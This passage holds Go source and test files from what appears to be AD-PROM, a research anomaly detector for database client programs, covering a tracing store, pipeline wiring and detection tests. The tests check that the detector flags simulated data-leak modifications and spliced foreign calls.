	if got[0].Span("sink") == nil {
		t.Fatal("sink span recorded after Finish was lost")
	}
}

func TestTracesNewestFirstAndLimit(t *testing.T) {
	s := NewStore(16, 1)
	for _, id := range []string{"t1", "t2", "t3"} {
		s.Begin(Context{ID: id}, "s", "observe").Finish()
	}
	got := s.Traces(2)
	if len(got) != 2 || got[0].ID != "t3" || got[1].ID != "t2" {
		t.Fatalf("newest-first merge broken: %+v", got)
	}
}

func TestSpanCapCountsDropped(t *testing.T) {
	s := NewStore(2, 1)
	a := s.Begin(Context{}, "s", "observe")
	for i := 0; i < maxSpans+10; i++ {
		a.Event(RootSpan, "stage", time.Now())
	}
	a.Finish()
	tr := s.Traces(1)[0]
	if len(tr.Spans) != maxSpans {
		t.Fatalf("span cap not enforced: %d spans", len(tr.Spans))
	}
	if tr.Dropped != 11 { // 10 over cap + the one that hit it
		t.Fatalf("dropped = %d, want 11", tr.Dropped)
	}
}

func TestNilStoreAndActiveAreInert(t *testing.T) {
	var s *Store
	if s.Enabled() || s.Traces(0) != nil || s.Stored() != 0 {
		t.Fatal("nil store not inert")
	}
	a := s.Begin(Context{}, "s", "observe")
	if a != nil {
		t.Fatal("nil store Begin must return nil")
	}
	// All Active methods must be no-ops on nil.
	a.MarkAlert()
	a.Ref()
	a.Event(RootSpan, "x", time.Now())
	a.StartSpan(RootSpan, "y").End()
	a.Finish()
	a.Release()
	if a.ID() != "" || a.Alerted() {
		t.Fatal("nil active not inert")
	}
}

func TestConcurrentSpansAndCommits(t *testing.T) {
	s := NewStore(128, 2)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				a := s.Begin(Context{}, "sess", "observe")
				h := a.StartSpan(RootSpan, "score")
				a.Ref()
				go func() {
					a.Event(RootSpan, "sink", time.Now())
					a.Release()
				}()
				h.End(Int("i", int64(i)))
				if i%5 == 0 {
					a.MarkAlert()
				}
				a.Finish()
			}
		}(g)
	}
	wg.Wait()
	// Commits race with Traces; just assert the store stayed consistent.
	for _, tr := range s.Traces(0) {
		if tr.ID == "" || len(tr.Spans) == 0 || tr.Spans[0].ID != RootSpan {
			t.Fatalf("inconsistent trace: %+v", tr)
		}
	}
}

func TestAttrJSONRoundTrip(t *testing.T) {
	in := []Attr{
		String("codec", "ndjson"),
		Int("queue_depth", 17),
		Float("score", -3.25),
		Bool("flagged", true),
	}
	data, err := json.Marshal(in)
	if err != nil {
		t.Fatal(err)
	}
	var out []Attr
	if err := json.Unmarshal(data, &out); err != nil {
		t.Fatal(err)
	}
	if len(out) != len(in) {
		t.Fatalf("round trip lost attrs: %s", data)
	}
	if out[0].Value() != "ndjson" || out[1].Value() != float64(17) ||
		out[2].Value() != -3.25 || out[3].Value() != true {
		t.Fatalf("values mangled: %+v", out)
	}
}
