// Package trace is the zero-dependency distributed-tracing layer of the
// detection pipeline: a span model (trace ID, span ID, parent, monotonic
// start/duration, stage name, typed attributes) plus a lock-light bounded
// store of completed traces with the same retention bias as the decision
// ring — healthy traces are sampled 1-in-N, alert-bearing traces are always
// kept.
//
// One trace covers one ingest event / observe op end to end: a root span
// ("ingest" on the network path, "observe" on the direct Session API)
// with child spans for tenant routing, shed admission, engine scoring
// (including per-channel judgement and fusion spans on flagged windows),
// and asynchronous sink delivery. The live builder (Active) is refcounted
// so the sink dispatcher can append its span after the worker finished the
// op; the trace commits to the store when the last reference is released.
//
// Like obsv, the package never imports what it observes: ingest, tenant,
// runtime, and detect all speak to it through values and callbacks.
package trace

import (
	"encoding/json"
	"fmt"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// Kind discriminates the live value field of an Attr.
type Kind uint8

// Attribute value kinds.
const (
	KindString Kind = iota
	KindInt
	KindFloat
	KindBool
)

// Attr is one typed span attribute. The struct is flat (no interface boxing)
// so building attributes on the hot path costs no allocation beyond the
// attrs slice itself.
type Attr struct {
	Key   string
	Kind  Kind
	Str   string
	Int   int64
	Float float64
}

// String builds a string attribute.
func String(key, v string) Attr { return Attr{Key: key, Kind: KindString, Str: v} }

// Int builds an integer attribute.
func Int(key string, v int64) Attr { return Attr{Key: key, Kind: KindInt, Int: v} }

// Float builds a float attribute.
func Float(key string, v float64) Attr { return Attr{Key: key, Kind: KindFloat, Float: v} }

// Bool builds a boolean attribute.
func Bool(key string, v bool) Attr {
	a := Attr{Key: key, Kind: KindBool}
	if v {
		a.Int = 1
	}
	return a
}

// Value returns the attribute's live value as an any (for rendering).
func (a Attr) Value() any {
	switch a.Kind {
	case KindInt:
		return a.Int
	case KindFloat:
		return a.Float
	case KindBool:
		return a.Int != 0
	default:
		return a.Str
	}
}

// MarshalJSON renders the attribute as {"key": ..., "value": ...}.
func (a Attr) MarshalJSON() ([]byte, error) {
	return json.Marshal(struct {
		Key   string `json:"key"`
		Value any    `json:"value"`
	}{a.Key, a.Value()})
}

// UnmarshalJSON accepts the MarshalJSON form, mapping JSON numbers back to
// float attributes (the explain tool only reads values, never kinds).
func (a *Attr) UnmarshalJSON(data []byte) error {
	var raw struct {
		Key   string `json:"key"`
		Value any    `json:"value"`
	}
	if err := json.Unmarshal(data, &raw); err != nil {
		return err
	}
	a.Key = raw.Key
	switch v := raw.Value.(type) {
	case string:
		*a = String(raw.Key, v)
	case bool:
		*a = Bool(raw.Key, v)
	case float64:
		*a = Float(raw.Key, v)
	default:
		*a = String(raw.Key, fmt.Sprint(v))
	}
	return nil
}

// Span is one completed pipeline stage within a trace. IDs are sequential
// per trace starting at 1 (the root); Parent 0 marks the root span.
type Span struct {
	ID       uint64 `json:"id"`
	Parent   uint64 `json:"parent,omitempty"`
	Stage    string `json:"stage"`
	Start    int64  `json:"start_unix_nanos"`
	Duration int64  `json:"duration_nanos"`
	Attrs    []Attr `json:"attrs,omitempty"`
}

// Attr returns the span attribute with the given key, and whether it exists.
func (s *Span) Attr(key string) (Attr, bool) {
	for _, a := range s.Attrs {
		if a.Key == key {
			return a, true
		}
	}
	return Attr{}, false
}

// Trace is one completed end-to-end decision trace.
type Trace struct {
	ID      string `json:"id"`
	Tenant  string `json:"tenant,omitempty"`
	Session string `json:"session"`
	// Alert reports whether this op raised at least one alert; alert traces
	// are exempt from the healthy 1-in-N retention sampling.
	Alert bool   `json:"alert"`
	Spans []Span `json:"spans"`
	// Dropped counts spans discarded because the per-trace span cap was hit.
	Dropped int `json:"dropped_spans,omitempty"`
}

// Span returns the first span with the given stage name, nil when absent.
func (t *Trace) Span(stage string) *Span {
	for i := range t.Spans {
		if t.Spans[i].Stage == stage {
			return &t.Spans[i]
		}
	}
	return nil
}

// Context carries wire-level trace metadata from the ingest front door to
// the runtime that opens the trace. The zero value is valid: an empty ID
// asks the store to assign one, a zero Start means "now".
type Context struct {
	// ID is the client-supplied trace ID ("" = server-assigned).
	ID string
	// Start is when the event entered the process (the ingest decode time),
	// so the root span covers queueing ahead of the worker.
	Start time.Time
	// Remote and Codec describe the ingest connection, recorded as root-span
	// attributes.
	Remote string
	Codec  string
	// Tenant is stamped by the tenant router.
	Tenant string
}

// maxSpans bounds one trace's span count; a runaway op drops further spans
// and counts them in Trace.Dropped instead of growing without bound.
const maxSpans = 256

// Active is a live trace being built while its op flows through the
// pipeline. It is refcounted: the worker that finishes the op holds the
// initial reference and every async alert delivery holds one more, so the
// sink span lands before the trace commits. All methods are safe on a nil
// receiver (tracing disabled) and safe for concurrent use.
type Active struct {
	store *Store
	refs  atomic.Int32
	alert atomic.Bool

	mu     sync.Mutex
	tr     Trace
	closed bool // root span duration stamped
	start  time.Time
}

// SpanHandle is an open span returned by StartSpan; End completes it.
type SpanHandle struct {
	a     *Active
	idx   int
	id    uint64
	start time.Time
}

// ID returns the trace ID, "" on a nil Active.
func (a *Active) ID() string {
	if a == nil {
		return ""
	}
	return a.tr.ID
}

// Alerted reports whether MarkAlert was called.
func (a *Active) Alerted() bool { return a != nil && a.alert.Load() }

// MarkAlert pins this trace as alert-bearing: it will always be retained,
// bypassing the healthy-trace sampling gate.
func (a *Active) MarkAlert() {
	if a != nil {
		a.alert.Store(true)
	}
}

// Ref adds one reference; the holder must call Release exactly once.
func (a *Active) Ref() {
	if a != nil {
		a.refs.Add(1)
	}
}

// StartSpan opens a child span under parent (use RootSpan for top-level
// stages). The returned handle's End completes it; a handle from a nil
// Active is inert.
func (a *Active) StartSpan(parent uint64, stage string) SpanHandle {
	if a == nil {
		return SpanHandle{}
	}
	now := time.Now()
	a.mu.Lock()
	if len(a.tr.Spans) >= maxSpans {
		a.tr.Dropped++
		a.mu.Unlock()
		return SpanHandle{}
	}
	id := uint64(len(a.tr.Spans) + 1)
	a.tr.Spans = append(a.tr.Spans, Span{ID: id, Parent: parent, Stage: stage, Start: now.UnixNano()})
	idx := len(a.tr.Spans) - 1
	a.mu.Unlock()
	return SpanHandle{a: a, idx: idx, id: id, start: now}
}

// ID returns the open span's ID, 0 when inert.
func (h SpanHandle) ID() uint64 { return h.id }

// End completes the span, stamping its monotonic duration and attributes.
func (h SpanHandle) End(attrs ...Attr) {
	if h.a == nil {
		return
	}
	d := time.Since(h.start).Nanoseconds()
	h.a.mu.Lock()
	sp := &h.a.tr.Spans[h.idx]
	sp.Duration = d
	sp.Attrs = attrs
	h.a.mu.Unlock()
}

// Event records one already-completed span whose work ran from start to
// now, returning its span ID (0 when dropped or nil).
func (a *Active) Event(parent uint64, stage string, start time.Time, attrs ...Attr) uint64 {
	if a == nil {
		return 0
	}
	d := time.Since(start).Nanoseconds()
	a.mu.Lock()
	if len(a.tr.Spans) >= maxSpans {
		a.tr.Dropped++
		a.mu.Unlock()
		return 0
	}
	id := uint64(len(a.tr.Spans) + 1)
	a.tr.Spans = append(a.tr.Spans, Span{
		ID: id, Parent: parent, Stage: stage,
		Start: start.UnixNano(), Duration: d, Attrs: attrs,
	})
	a.mu.Unlock()
	return id
}

// RootSpan is the span ID of the root span every Begin creates.
const RootSpan uint64 = 1

// Finish stamps the root span's duration (idempotently) and releases the
// creator's reference. Async holders (sink deliveries) still keep the trace
// alive until their own Release.
func (a *Active) Finish() {
	if a == nil {
		return
	}
	a.mu.Lock()
	if !a.closed {
		a.closed = true
		if len(a.tr.Spans) > 0 {
			a.tr.Spans[0].Duration = time.Since(a.start).Nanoseconds()
		}
	}
	a.mu.Unlock()
	a.Release()
}

// Release drops one reference; the last release commits the trace to the
// store (subject to the healthy sampling gate).
func (a *Active) Release() {
	if a == nil {
		return
	}
	if a.refs.Add(-1) == 0 {
		a.store.commit(a)
	}
}

// Store is a bounded store of completed traces with keep-alerts retention:
// healthy traces pass a 1-in-N sampling gate and live in a FIFO ring of
// their own, alert traces are always committed and evicted only by newer
// alert traces. Hot-path cost while a trace is open is one mutex-guarded
// append per span; the commit path touches the store mutex once per op.
type Store struct {
	every uint64
	gate  atomic.Uint64
	seed  uint64
	ctr   atomic.Uint64

	stored     atomic.Uint64 // traces committed into the rings
	sampledOut atomic.Uint64 // healthy traces the 1-in-N gate discarded

	mu      sync.Mutex
	seq     uint64 // monotonic commit index, newest-first merge key
	healthy []stored
	alerts  []stored
	hNext   int
	aNext   int

	pool sync.Pool // *Active
}

type stored struct {
	seq uint64
	tr  Trace
}

// NewStore builds a trace store retaining up to capacity healthy traces and
// up to capacity alert traces, sampling one in sampleEvery healthy traces
// (alert traces are always kept). capacity ≤ 0 returns nil — tracing
// disabled; sampleEvery ≤ 1 keeps every healthy trace.
func NewStore(capacity, sampleEvery int) *Store {
	if capacity <= 0 {
		return nil
	}
	s := &Store{
		healthy: make([]stored, 0, capacity),
		alerts:  make([]stored, 0, capacity),
		seed:    mix(uint64(time.Now().UnixNano())),
	}
	if sampleEvery > 1 {
		s.every = uint64(sampleEvery)
	}
	return s
}

// Enabled reports whether the store retains traces.
func (s *Store) Enabled() bool { return s != nil }

// Stored returns the number of traces committed; SampledOut the healthy
// traces the retention gate discarded.
func (s *Store) Stored() uint64 {
	if s == nil {
		return 0
	}
	return s.stored.Load()
}

func (s *Store) SampledOut() uint64 {
	if s == nil {
		return 0
	}
	return s.sampledOut.Load()
}

// Begin opens a trace for one op, creating its root span. The trace ID is
// tc.ID when the client supplied one, otherwise store-assigned. Returns nil
// (tracing off) on a nil store.
func (s *Store) Begin(tc Context, session, stage string) *Active {
	if s == nil {
		return nil
	}
	a, _ := s.pool.Get().(*Active)
	if a == nil {
		a = &Active{}
	}
	a.store = s
	a.refs.Store(1)
	a.alert.Store(false)
	a.closed = false
	start := tc.Start
	if start.IsZero() {
		start = time.Now()
	}
	a.start = start
	id := tc.ID
	if id == "" {
		id = fmt.Sprintf("%016x", mix(s.seed+s.ctr.Add(1)))
	}
	a.tr = Trace{ID: id, Tenant: tc.Tenant, Session: session, Spans: a.tr.Spans[:0]}
	root := Span{ID: RootSpan, Stage: stage, Start: start.UnixNano()}
	if tc.Remote != "" {
		root.Attrs = append(root.Attrs, String("remote", tc.Remote))
	}
	if tc.Codec != "" {
		root.Attrs = append(root.Attrs, String("codec", tc.Codec))
	}
	a.tr.Spans = append(a.tr.Spans, root)
	return a
}

// commit applies the retention policy to a finished trace and recycles the
// Active.
func (s *Store) commit(a *Active) {
	alert := a.alert.Load()
	if !alert && s.every > 1 && s.gate.Add(1)%s.every != 0 {
		s.sampledOut.Add(1)
		s.pool.Put(a)
		return
	}
	// The stored trace owns a copy of the span slice so the Active (and its
	// span backing array) can be pooled.
	tr := a.tr
	tr.Alert = alert
	tr.Spans = append([]Span(nil), a.tr.Spans...)
	s.stored.Add(1)
	s.mu.Lock()
	s.seq++
	e := stored{seq: s.seq, tr: tr}
	if alert {
		if len(s.alerts) < cap(s.alerts) {
			s.alerts = append(s.alerts, e)
		} else {
			s.alerts[s.aNext] = e
			s.aNext = (s.aNext + 1) % cap(s.alerts)
		}
	} else {
		if len(s.healthy) < cap(s.healthy) {
			s.healthy = append(s.healthy, e)
		} else {
			s.healthy[s.hNext] = e
			s.hNext = (s.hNext + 1) % cap(s.healthy)
		}
	}
	s.mu.Unlock()
	s.pool.Put(a)
}

// Traces returns up to limit retained traces, newest first (alert and
// healthy traces merged by commit order). limit ≤ 0 returns everything.
func (s *Store) Traces(limit int) []Trace {
	if s == nil {
		return nil
	}
	s.mu.Lock()
	all := make([]stored, 0, len(s.healthy)+len(s.alerts))
	all = append(all, s.healthy...)
	all = append(all, s.alerts...)
	s.mu.Unlock()
	sort.Slice(all, func(i, j int) bool { return all[i].seq > all[j].seq })
	if limit > 0 && limit < len(all) {
		all = all[:limit]
	}
	out := make([]Trace, len(all))
	for i, e := range all {
		out[i] = e.tr
	}
	return out
}

// TraceByID returns the retained trace with the given ID.
func (s *Store) TraceByID(id string) (Trace, bool) {
	if s == nil {
		return Trace{}, false
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	for i := range s.alerts {
		if s.alerts[i].tr.ID == id {
			return s.alerts[i].tr, true
		}
	}
	for i := range s.healthy {
		if s.healthy[i].tr.ID == id {
			return s.healthy[i].tr, true
		}
	}
	return Trace{}, false
}

// mix is the splitmix64 finalizer: cheap, well-distributed trace IDs from a
// seed + counter without math/rand.
func mix(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}
