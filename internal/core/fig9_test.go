package core

import (
	"reflect"
	"strings"
	"testing"

	"adprom/internal/collector"
	"adprom/internal/dataset"
	"adprom/internal/detect"
	"adprom/internal/hmm"
	"adprom/internal/interp"
	"adprom/internal/ir"
	"adprom/internal/minidb"
	"adprom/internal/profile"
)

// fig9Program builds the paper's Figure 9 original code: two COUNT queries,
// a percentage computation, a conditional TD print (line 9), and a constant
// print (line 10).
//
//	b0: query1/query2, getvalue ×2, percentage; if > 60% → b1 else b2
//	b1: printf("... majority ... %d", percentage)   ← prints TD
//	b2: printf("Tax for such income ...")           ← constant
func fig9Program(modified bool) *ir.Program {
	b := ir.NewBuilder("fig9")
	m := b.Func("main")
	e := m.Block()
	majority := m.Block()
	tax := m.Block()

	e.CallTo("conn", "PQconnectdb")
	e.CallTo("result1", "PQexec", ir.V("conn"), ir.S("SELECT COUNT(*) FROM employees"))
	e.CallTo("result2", "PQexec", ir.V("conn"), ir.S("SELECT COUNT(*) FROM employees WHERE yearlyIncome < 30000"))
	e.CallTo("allEmps", "PQgetvalue", ir.V("result1"), ir.I(0), ir.I(0))
	e.CallTo("empLowIn", "PQgetvalue", ir.V("result2"), ir.I(0), ir.I(0))
	e.Assign("percentage", ir.Div(ir.Mul(ir.V("empLowIn"), ir.I(100)), ir.V("allEmps")))
	e.If(ir.Gt(ir.V("percentage"), ir.I(60)), majority, tax)

	majority.Call("printf", ir.S("%d%% of the employees have low income.\n"), ir.V("percentage"))
	majority.Goto(tax)

	if modified {
		// The attacker's line 11: a printf that looks exactly like line 9's
		// in plain call names, in a new block on the else path... here
		// appended before the constant print, printing the raw count.
		tax.Call("printf", ir.S("Number of the employees who have low income is %s.\n"), ir.V("empLowIn"))
	}
	tax.Call("printf", ir.S("Tax for such income is less than 18%% in IN state.\n"))
	tax.Ret()
	return b.MustBuild()
}

func fig9DB(lowIncome int) *minidb.Database {
	db := minidb.New()
	db.MustExec("CREATE TABLE employees (id INT, yearlyIncome INT)")
	for i := 0; i < 10; i++ {
		income := 50000
		if i < lowIncome {
			income = 20000
		}
		db.MustExec("INSERT INTO employees VALUES (" + itoa(i) + ", " + itoa(income) + ")")
	}
	return db
}

func fig9Trace(t *testing.T, prog *ir.Program, lowIncome int) collector.Trace {
	t.Helper()
	world := interp.NewWorld(fig9DB(lowIncome))
	ip := interp.New(prog, world, interp.Options{})
	col := collector.New(collector.ModeADPROM, nil)
	ip.AddHook(col.Hook())
	if _, err := ip.Run(); err != nil {
		t.Fatal(err)
	}
	return col.Trace()
}

// TestFigure9LabelsDistinguishSimilarPrints reproduces the paper's Figure 9
// walk-through: without labels the original line-9 path and the attacker's
// line-11 path produce identical call-name sequences; the block-id labels
// tell them apart, and the trained detector flags the modified program.
func TestFigure9LabelsDistinguishSimilarPrints(t *testing.T) {
	orig := fig9Program(false)
	mod := fig9Program(true)

	// The paper's premise, verified: with 7 of 10 employees low-income the
	// original takes line 9; the modified program takes line 9 AND line 11's
	// sibling... compare the else path (3 low-income) where call-name
	// sequences coincide.
	origElse := fig9Trace(t, orig, 7) // majority path: PQexec×2, getvalue×2, printf_Q, printf
	modElse := fig9Trace(t, mod, 3)   // else path with the attacker's print

	names := func(tr collector.Trace) []string {
		out := make([]string, len(tr))
		for i, c := range tr {
			out[i] = c.Name
		}
		return out
	}
	if !reflect.DeepEqual(names(origElse), names(modElse)) {
		t.Fatalf("Figure 9 premise broken — name sequences differ:\n%v\n%v",
			names(origElse), names(modElse))
	}
	// The labels differ exactly at the print of TD: block 1 vs block 2.
	var origLabel, modLabel string
	for _, c := range origElse {
		if strings.HasPrefix(c.Label, "printf_Q") {
			origLabel = c.Label
		}
	}
	for _, c := range modElse {
		if strings.HasPrefix(c.Label, "printf_Q") {
			modLabel = c.Label
		}
	}
	if origLabel != "printf_Q1" || modLabel != "printf_Q2" {
		t.Fatalf("labels = %q vs %q, want printf_Q1 vs printf_Q2", origLabel, modLabel)
	}

	// Train on the original (both branches) and monitor the modified run:
	// the unseen printf_Q2 symbol must flag, connected to its queries.
	var traces []collector.Trace
	for _, low := range []int{0, 2, 4, 6, 7, 8, 10} {
		traces = append(traces, fig9Trace(t, orig, low))
	}
	p, _, err := Train(orig, traces, profile.Options{Train: hmm.TrainOptions{MaxIters: 10}})
	if err != nil {
		t.Fatal(err)
	}
	if alerts := NewMonitor(p, nil).ObserveTrace(fig9Trace(t, orig, 3)); len(alerts) != 0 {
		t.Fatalf("original else path alerted: %+v", alerts)
	}
	alerts := NewMonitor(p, nil).ObserveTrace(modElse)
	dl := false
	for _, a := range alerts {
		if a.Flag == detect.FlagDL && len(a.Origins) > 0 {
			dl = true
		}
	}
	if !dl {
		t.Errorf("modified program not flagged DL: %+v", alerts)
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for n > 0 {
		b = append([]byte{byte('0' + n%10)}, b...)
		n /= 10
	}
	return string(b)
}

// Silence an unused-import guard if dataset becomes unnecessary later.
var _ = dataset.Fig3
