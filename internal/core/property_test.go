package core

import (
	"fmt"
	"strconv"
	"testing"

	"adprom/internal/collector"
	"adprom/internal/dataset"
	"adprom/internal/detect"
	"adprom/internal/hmm"
	"adprom/internal/minidb"
	"adprom/internal/profile"
	"adprom/internal/progen"
)

// TestPipelinePropertyOnGeneratedPrograms is the system-level property sweep:
// for arbitrary generated DB client programs,
//
//	(1) replaying the training traces through the monitor raises nothing
//	    (zero false positives on seen behaviour, by threshold construction),
//	(2) splicing a burst of foreign calls into any trace raises probability
//	    alerts (A-S2 sensitivity).
func TestPipelinePropertyOnGeneratedPrograms(t *testing.T) {
	if testing.Short() {
		t.Skip("trains several generated programs")
	}
	for seed := int64(1); seed <= 3; seed++ {
		seed := seed
		t.Run(fmt.Sprintf("seed%d", seed), func(t *testing.T) {
			db := minidb.New()
			db.MustExec("CREATE TABLE docs (id INT, body TEXT)")
			for i := 0; i < 12; i++ {
				db.MustExec(fmt.Sprintf("INSERT INTO docs VALUES (%d, 'doc%d')", i, i))
			}
			app := &dataset.App{
				Name:    "gen",
				Prog:    progen.Generate(progen.Config{Seed: seed, Functions: 8, UseDB: true, Tables: []string{"docs"}}),
				FreshDB: func() *minidb.Database { return db },
			}
			for i := 0; i < 12; i++ {
				app.TestCases = append(app.TestCases, dataset.TestCase{
					Name:  strconv.Itoa(i),
					Input: []string{strconv.Itoa(i), strconv.Itoa(i * 7 % 19), strconv.Itoa(i * 3 % 11)},
				})
			}
			traces, err := app.CollectTraces(collector.ModeADPROM)
			if err != nil {
				t.Fatalf("CollectTraces: %v", err)
			}
			// No MaxTrainWindows cap: the zero-false-positive property (1)
			// holds exactly only when training and threshold selection cover
			// every window (capped corpora may show residual FPs — the
			// documented Table VII regime).
			p, _, err := Train(app.Prog, traces, profile.Options{
				Seed:  seed,
				Train: hmm.TrainOptions{MaxIters: 3},
			})
			if err != nil {
				t.Fatalf("Train: %v", err)
			}

			// (1) No false positives on the training corpus.
			mon := NewMonitor(p, nil)
			for ti, tr := range traces {
				before := len(mon.Alerts())
				mon.ObserveTrace(tr)
				if got := len(mon.Alerts()) - before; got != 0 {
					t.Fatalf("trace %d raised %d alerts: %+v", ti, got, mon.Alerts()[before])
				}
			}

			// (2) Foreign-call splices are flagged.
			flagged := 0
			for ti, tr := range traces {
				if len(tr) < 4 {
					continue
				}
				mutated := append(collector.Trace{}, tr[:len(tr)/2]...)
				for i := 0; i < 5; i++ {
					mutated = append(mutated, collector.Call{
						Label: "ptrace", Name: "ptrace", Caller: "main",
					})
				}
				mutated = append(mutated, tr[len(tr)/2:]...)
				m2 := NewMonitor(p, nil)
				for _, a := range m2.ObserveTrace(mutated) {
					if a.Flag == detect.FlagAnomalous || a.Flag == detect.FlagDL {
						flagged++
						break
					}
				}
				_ = ti
			}
			if flagged < len(traces)/2 {
				t.Errorf("foreign splices flagged in only %d of %d traces", flagged, len(traces))
			}
		})
	}
}
