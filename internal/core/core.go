// Package core wires AD-PROM's components together as in the paper's
// Figure 4: the Analyzer (static analysis), the Calls Collector, the Profile
// Constructor (training phase), and the Detection Engine (detection phase),
// with alerts routed to a security-administrator sink.
package core

import (
	"context"
	"fmt"
	"time"

	"adprom/internal/cfg"
	"adprom/internal/collector"
	"adprom/internal/ctm"
	"adprom/internal/ddg"
	"adprom/internal/detect"
	"adprom/internal/interp"
	"adprom/internal/ir"
	"adprom/internal/profile"
)

// StaticAnalysis is the Analyzer's output: the data-dependency labels, the
// per-function CTMs, and the aggregated program matrix, with the elapsed
// time of each stage (the rows of Table VIII).
type StaticAnalysis struct {
	DDG      *ddg.Info
	Graphs   map[string]*cfg.Graph
	FuncCTMs map[string]*ctm.Matrix
	PCTM     *ctm.Matrix
	Timings  Timings
}

// Timings records the pre-training stages of Table VIII. BuildCFG covers CFG
// extraction (back edges, topological order, reachability) plus the DDG,
// ProbEst the per-function transition-probability estimation (eq. 3), and
// Aggregation the call-graph inlining into the pCTM (eqs. 4–10).
type Timings struct {
	BuildCFG    time.Duration
	ProbEst     time.Duration
	Aggregation time.Duration
}

// Analyze runs the full static phase over prog.
func Analyze(prog *ir.Program) (*StaticAnalysis, error) {
	if err := ir.Validate(prog); err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	sa := &StaticAnalysis{
		Graphs:   map[string]*cfg.Graph{},
		FuncCTMs: map[string]*ctm.Matrix{},
	}

	start := time.Now()
	sa.DDG = ddg.Analyze(prog)
	for _, name := range ir.FunctionNames(prog) {
		g, err := cfg.Analyze(prog.Functions[name])
		if err != nil {
			return nil, fmt.Errorf("core: cfg %s: %w", name, err)
		}
		sa.Graphs[name] = g
	}
	sa.Timings.BuildCFG = time.Since(start)

	start = time.Now()
	for _, name := range ir.FunctionNames(prog) {
		mx, err := ctm.BuildFunc(prog.Functions[name], sa.Graphs[name], sa.DDG)
		if err != nil {
			return nil, fmt.Errorf("core: ctm %s: %w", name, err)
		}
		sa.FuncCTMs[name] = mx
	}
	sa.Timings.ProbEst = time.Since(start)

	start = time.Now()
	pm, err := ctm.Aggregate(prog, sa.FuncCTMs)
	if err != nil {
		return nil, fmt.Errorf("core: aggregate: %w", err)
	}
	sa.PCTM = pm
	sa.Timings.Aggregation = time.Since(start)
	return sa, nil
}

// Train runs the full training phase (Figure 7): static analysis, then
// profile construction over the collected traces.
func Train(prog *ir.Program, traces []collector.Trace, opts profile.Options) (*profile.Profile, *StaticAnalysis, error) {
	return TrainContext(context.Background(), prog, traces, opts)
}

// TrainContext is Train with cancellation: a cancelled context aborts the
// Baum–Welch loop between iterations and surfaces ctx.Err() as the error.
func TrainContext(ctx context.Context, prog *ir.Program, traces []collector.Trace, opts profile.Options) (*profile.Profile, *StaticAnalysis, error) {
	if err := ctx.Err(); err != nil {
		return nil, nil, fmt.Errorf("core: %w", err)
	}
	sa, err := Analyze(prog)
	if err != nil {
		return nil, nil, err
	}
	p, err := profile.BuildContext(ctx, prog, sa.PCTM, traces, opts)
	if err != nil {
		return nil, sa, fmt.Errorf("core: %w", err)
	}
	return p, sa, nil
}

// AlertSink receives detection-engine findings; the paper's Security Admin.
type AlertSink interface {
	HandleAlert(detect.Alert)
}

// AlertFunc adapts a function to AlertSink.
type AlertFunc func(detect.Alert)

// HandleAlert calls f.
func (f AlertFunc) HandleAlert(a detect.Alert) { f(a) }

// Monitor is the detection phase (Figure 8): it attaches to a running
// program, feeds its calls to the detection engine, and forwards alerts.
type Monitor struct {
	engine *detect.Engine
	sink   AlertSink
}

// NewMonitor builds a monitor around a trained profile. sink may be nil
// (alerts are still retained and available from Alerts).
func NewMonitor(p *profile.Profile, sink AlertSink) *Monitor {
	return &Monitor{engine: detect.NewEngine(p), sink: sink}
}

// Engine returns the monitor's detection engine (for threshold control).
func (m *Monitor) Engine() *detect.Engine { return m.engine }

// Attach hooks the monitor into an interpreter so that detection runs inline
// with execution, like the paper's dynamically instrumented deployment.
func (m *Monitor) Attach(ip *interp.Interp) {
	ip.AddHook(func(e *interp.Event) {
		alerts := m.engine.Observe(collector.Call{
			Label:   e.Label,
			Name:    e.Name,
			Caller:  e.Caller,
			Block:   e.Block,
			Origins: e.Origins,
			SQL:     e.SQL,
			Rows:    e.Rows,
		})
		if m.sink != nil {
			for _, a := range alerts {
				m.sink.HandleAlert(a)
			}
		}
	})
}

// ObserveBatch feeds a run of consecutive calls from the monitored stream
// through the engine's batched scoring path and returns (and sinks) the
// alerts raised. The alerts are exactly those len(calls) individual Observe
// calls would raise, in the same order; batching only amortises per-call
// overhead.
func (m *Monitor) ObserveBatch(calls []collector.Call) []detect.Alert {
	alerts := m.engine.ObserveBatch(calls)
	if m.sink != nil {
		for _, a := range alerts {
			m.sink.HandleAlert(a)
		}
	}
	return alerts
}

// ObserveTrace replays one collected execution through the monitor (the
// offline deployment mode) and returns the engine's full alert history
// including the final short-window judgement. The sliding window resets at
// the start of the trace: windows never straddle two executions.
func (m *Monitor) ObserveTrace(tr collector.Trace) []detect.Alert {
	m.engine.ResetWindow()
	alerts := m.engine.ObserveBatch(tr)
	if m.sink != nil {
		for _, a := range alerts {
			m.sink.HandleAlert(a)
		}
	}
	before := len(m.engine.Alerts())
	history := m.engine.Flush()
	if m.sink != nil {
		for _, a := range history[before:] {
			m.sink.HandleAlert(a)
		}
	}
	return history
}

// Alerts returns everything the engine has raised.
func (m *Monitor) Alerts() []detect.Alert { return m.engine.Alerts() }
