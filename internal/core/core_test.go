package core

import (
	"testing"

	"adprom/internal/attack"
	"adprom/internal/collector"
	"adprom/internal/dataset"
	"adprom/internal/detect"
	"adprom/internal/hmm"
	"adprom/internal/interp"
	"adprom/internal/ir"
	"adprom/internal/profile"
)

func TestAnalyzeProducesAllArtifacts(t *testing.T) {
	app := dataset.AppB()
	sa, err := Analyze(app.Prog)
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	if len(sa.FuncCTMs) != len(app.Prog.Functions) {
		t.Errorf("FuncCTMs = %d, want %d", len(sa.FuncCTMs), len(app.Prog.Functions))
	}
	if sa.PCTM == nil || sa.PCTM.HasUserSites() {
		t.Error("pCTM missing or not fully aggregated")
	}
	if err := sa.PCTM.CheckInvariants(1e-9); err != nil {
		t.Errorf("pCTM invariants: %v", err)
	}
	if len(sa.DDG.Labels) == 0 {
		t.Error("DDG found no labelled outputs in AppB")
	}
	if sa.Timings.BuildCFG <= 0 || sa.Timings.ProbEst <= 0 || sa.Timings.Aggregation <= 0 {
